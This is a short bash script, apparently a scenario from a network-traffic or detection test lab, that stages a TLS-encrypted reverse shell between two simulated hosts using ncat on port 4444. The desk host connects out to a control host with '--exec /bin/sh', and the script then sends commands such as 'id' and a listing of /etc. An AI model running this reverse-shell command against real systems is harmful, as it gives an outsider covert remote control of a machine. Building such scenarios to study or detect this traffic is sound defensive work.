#!/usr/bin/env bash
# A reverse shell inside TLS on a port that is popular for it: ncat.
. "$(dirname "$0")/../../lib.sh"
needs ncat openssl

host desk 10.20.3.14
host control 203.0.113.44
certificate control.example.net
mkfifo "$work/typed"
sleep 8 >"$work/typed" &
on control ncat --ssl --ssl-cert "$work/control.example.net.crt" --ssl-key "$work/control.example.net.key" -l 4444 <"$work/typed" >/dev/null &
sleep 0.5

record
on desk ncat --ssl 203.0.113.44 4444 --exec '/bin/sh' &
for command in 'id' 'ls -l /etc | head -30' 'exit'; do
  sleep 0.7
  echo "$command" >"$work/typed"
done
finish ncat openssl
